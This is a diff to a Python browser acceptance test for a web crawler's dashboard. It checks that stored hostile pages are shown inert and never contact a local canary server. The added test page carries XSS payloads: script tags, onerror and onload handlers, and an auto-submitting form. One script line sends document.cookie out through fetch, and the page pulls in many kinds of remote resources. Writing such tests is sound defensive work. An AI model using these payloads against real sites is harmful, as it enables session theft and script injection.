@@ -3,19 +3,22 @@
 Providers and sites write what would run if anything did. ``LCC_SCREENSHOTS`` names a folder for pictures.
 """
 
+import base64
 import html
 import json
 import os
 import shutil
+import socket
+import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from urllib.parse import urlencode
 
 import pytest
-from harness import PATIENCE, missing
+from harness import PATIENCE, missing, wait_for
 
 from lcc_scrapy.cache.last_outcomes import of_fetch
 from lcc_scrapy.dashboard import people
@@ -36,18 +39,27 @@ from lcc_scrapy.domain.providers import Provider
 from lcc_scrapy.domain.queue import FETCH, QueuedUrl
 from lcc_scrapy.domain.users import Role, User
 from lcc_scrapy.domain.versions import version_of
+from lcc_scrapy.feed.store_feed import head_of
 from lcc_scrapy.login.passwords import hash_password
+from tests.dashboard_house import write_index
 from tests.web_process import serving
 
 CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
 pytestmark = [pytest.mark.acceptance, pytest.mark.slow]
 
 EVIL = '"><script>document.title="ran"</script><img src=x onerror=\'document.title="ran"\'>\u202e'
+INDEX = "search.db"
 PASSWORD = "correct horse battery"
 PROVIDERS, PAUSED, HOLDING, FAILING = 120, 7, 9, 11
 HELD, FAILED = 40, 500
 STORED = f"http://h{HOLDING}.example/0{EVIL}"
 DOCID = urlkey(HOLDING, STORED, "text/html").hex()
+PICTURE = f"http://h{FAILING}.example/picture"
+HOSTILE = f"http://h{FAILING}.example/hostile"
+PICTURE_ID, HOSTILE_ID = (urlkey(FAILING, one, "text/html").hex() for one in (PICTURE, HOSTILE))
+DOT = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
 PAGES = {
     "overview": "",
     "workers": "/workers",
@@ -55,6 +67,10 @@ PAGES = {
     "url": f"/urls?{urlencode({'url': STORED})}",
     "waiting-url": f"/urls?{urlencode({'url': f'http://h{FAILING}.example/{EVIL}'})}",
     "text": f"/urls/{DOCID}/text",
+    "content": f"/urls/{DOCID}/content",
+    "picture": f"/urls/{PICTURE_ID}/content",
+    "links-in": f"/urls/links-to?{urlencode({'url': HOSTILE, 'pid': HOLDING})}",
+    "search": f"/search?{urlencode({'q': 'provider word'})}",
     "compared": f"/urls/{DOCID}/changes?version={HELD + 1}",
     "list": "/providers?order=failures&falling=1",
     "provider": f"/providers/{FAILING}",
@@ -85,7 +101,8 @@ def fill(store, path_of):
         tx.take("feed", HELD)
         tx.insert_cached(documents, answers)
         tx.insert_versions([before])
-        tx.put_links({documents[0].urlkey: [DocumentLink(f"http://h9.example/{EVIL}", EVIL)]})
+        links = [DocumentLink(f"http://h9.example/{EVIL}", EVIL), DocumentLink(HOSTILE, "a")]
+        tx.put_links({documents[0].urlkey: links})
         tx.update_provider(HOLDING, {"heldremovals": HELD, "fileused": HELD})
         tx.put_outcomes([of_fetch(_row(FAILING, n), 503, EVIL, now) for n in range(FAILED)])
         for ago in range(0, 80_000, 5000):
@@ -103,6 +120,29 @@ def fill(store, path_of):
         tx.put_worker(WorkerRow("2/0", 1, 2, 4711, now, now + 86_400, 8, 3, 5, job=EVIL, idle=EVIL))
         tx.lease_turns([str(FAILING)], "2/0", 1)
         tx.add_errors([UrlErrorRecord(FAILING, 503, EVIL, f"http://h11.example/{EVIL}", "{}", now)], 100)
+
+
+def store_page(store, path_of, url, content):
+    """Store a further document of the provider that fails; returns its row."""
+    with store.begin() as tx:
+        seq = tx.take("feed", 1)
+        row = replace(
+            _document(FAILING, seq, int(time.time())), urlkey=urlkey(FAILING, url, "text/html"), curl=url,
+            furl=url, seq=seq, confirmed_seq=seq, fetched_fileid=900 + seq, fetched_len=len(content),
+        )  # fmt: skip
+        tx.insert_cached([row])
+    path = path_of(1, row.fetched_fileid)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(content)
+    return row
+
+
+def index(lcc, store, rows):
+    """Write the index in which the dashboard searches."""
+    with store.read() as tx:
+        head = head_of(tx)
+    text = f"<title>{EVIL}</title><p>Each provider has a word. {html.escape(EVIL)}"
+    write_index(lcc.folder / INDEX, ((row, text.encode()) for row in rows), head)
 
 
 def _row(pid, number):
@@ -181,6 +221,8 @@ def house(make_lcc):
     lcc = make_lcc()
     store = SqlStore(lcc.shared_url)
     fill(store, lcc.path_of)
+    picture = store_page(store, lcc.path_of, PICTURE, DOT)
+    index(lcc, store, [picture])
     store.close()
     lcc.lcc("provider", "pause", str(PAUSED))
     return lcc
@@ -193,7 +235,8 @@ def in_browser(house, use, **options):
         with desk(port, **options) as at:
             use(at)
 
-    with serving(house) as (port, _), ThreadPoolExecutor(1) as apart:
+    index_file = str(house.folder / INDEX)
+    with serving(house, LCC_SEARCH_INDEX=index_file) as (port, _), ThreadPoolExecutor(1) as apart:
         apart.submit(run).result()
 
 
@@ -241,6 +284,110 @@ def retry(at):
     at.click("tbody tr:first-child td:first-child a")
     at.page.fill("#code", "503")
     at.click("button:text('Retry failed URLs')")
+
+
+APART = """Array.from(document.querySelectorAll("form.search label[for], form.inline label[for]"))
+  .filter((label) => {
+    const [its, of] = [label, label.control].map((one) => one.getBoundingClientRect());
+    return its.bottom <= of.top || of.bottom <= its.top;
+  }).map((label) => label.textContent)"""
+
+
+class Canary:
+    """Sites that nobody must connect to, one for each name; ``touched`` has the names of those that were."""
+
+    def __init__(self, names):
+        self.touched = set()
+        self._sockets = {name: socket.create_server(("127.0.0.1", 0)) for name in names}
+        for name in names:
+            threading.Thread(target=self._watch, args=[name], daemon=True).start()
+
+    def _watch(self, name):
+        with suppress(OSError):
+            while True:
+                self._sockets[name].accept()[0].close()
+                self.touched.add(name)
+
+    def url(self, name):
+        return f"http://127.0.0.1:{self._sockets[name].getsockname()[1]}/{name}"
+
+    def close(self):
+        for one in self._sockets.values():
+            one.shutdown(socket.SHUT_RDWR)
+            one.close()
+
+
+LOADED = (
+    "script", "onerror", "css", "frame", "svg", "object", "preload", "font", "video", "import", "preconnect", "refresh",
+    "base", "form", "link",
+)  # fmt: skip
+
+
+def hostile_page(canary):
+    """Return a page that loads, runs, sends and goes elsewhere, in every way that there is."""
+    at = canary.url
+    return f"""<!doctype html><html><head><title>hostile</title><base href="{at("base")}/" target="_top">
+    <link rel="preconnect" href="{at("preconnect")}"><link rel="preload" as="script" href="{at("preload")}">
+    <link rel="stylesheet" href="{at("css")}"><meta http-equiv="refresh" content="0;url={at("refresh")}">
+    <style>@import "{at("import")}"; @font-face{{font-family:x;src:url({at("font")})}} *{{font-family:x}}</style>
+    <script>document.title = "ran"; fetch("{at("script")}/" + document.cookie)</script></head>
+    <body onload="document.title='ran'"></pre></textarea></noscript></iframe>
+    <script src="{at("script")}"></script><img src="{at("onerror")}" onerror="document.title='ran'">
+    <svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'"><image href="{at("svg")}"/></svg>
+    <iframe src="{at("frame")}"></iframe><object data="{at("object")}"></object><video src="{at("video")}"></video>
+    <img src="relative.png"><form action="{at("form")}"><input autofocus onfocus="document.title='ran'">
+    <button>Send</button></form><a href="{at("link")}" target="_top">The link</a><script>document.forms[0].submit()</script>
+    <p>The visible words.</p></body></html>"""
+
+
+def test_nothing_of_a_hostile_page_runs_loads_sends_or_leads_elsewhere(house):
+    canary = Canary(LOADED)
+    store = SqlStore(house.shared_url)
+    rows = [store_page(store, house.path_of, HOSTILE, hostile_page(canary).encode())]
+    index(house, store, rows)
+    store.close()
+
+    def use(at):
+        sign_in(at)
+        for path in (
+            f"/urls?{urlencode({'url': HOSTILE})}", f"/urls/{HOSTILE_ID}/content", f"/urls/{HOSTILE_ID}/text",
+            "/search?q=provider", f"/urls/{HOSTILE_ID}/picture",
+        ):  # fmt: skip
+            at.go(path)
+            begun = at.page.url
+            at.page.wait_for_load_state("networkidle")
+            assert (at.page.url, len(at.page.frames), at.page.title() != "ran") == (begun, 1, True)
+        at.go(f"/urls?{urlencode({'url': HOSTILE})}")
+        assert "The visible words" not in at.text()
+        at.click("a:text('Show the content')")
+        assert "<p>The visible words.</p>" in at.text()
+        assert at.page.locator("main pre a, main pre *").count() == 0
+        at.page.click("text=The visible words")
+        assert at.page.evaluate("document.cookie") == ""
+        assert canary.touched == set()
+        at.page.goto("about:blank")
+        at.page.set_content(hostile_page(canary), wait_until="commit")
+        wait_for(lambda: len(canary.touched) >= 3, what="what is hostile without a policy")
+
+    try:
+        in_browser(house, use)
+    finally:
+        canary.close()
+
+
+def test_a_picture_is_shown_and_is_a_file_when_it_is_opened_alone(house):
+    def use(at):
+        sign_in(at)
+        at.go(f"/urls/{PICTURE_ID}/content")
+        shown = at.page.locator("img.stored")
+        assert shown.evaluate("one => one.complete && one.naturalWidth") == 1
+        with at.page.expect_download() as download, suppress(Error):
+            at.page.goto(f"http://127.0.0.1:{at.port}" + shown.get_attribute("src"))
+        assert download.value.suggested_filename == f"{PICTURE_ID}.png"
+
+    from playwright.sync_api import Error
+
+    in_browser(house, use)
 
 
 def test_changes_appear_as_they_happen_as_text(house):
@@ -313,6 +460,8 @@ def test_nothing_serious_is_found_on_any_page_at_any_width_in_light_and_dark(hou
         wide = page.evaluate("document.documentElement.scrollWidth")
         assert wide <= width, (name, width, wide)
         assert page.title() != "ran"
+        apart = page.evaluate(APART)
+        assert apart == [], (name, width, "labels that stand above or below their fields")
         looked.append(name)
         if folder := os.environ.get("LCC_SCREENSHOTS"):
             page.screenshot(path=Path(folder) / f"dashboard-{name}-{width}-{scheme}.png", full_page=True)
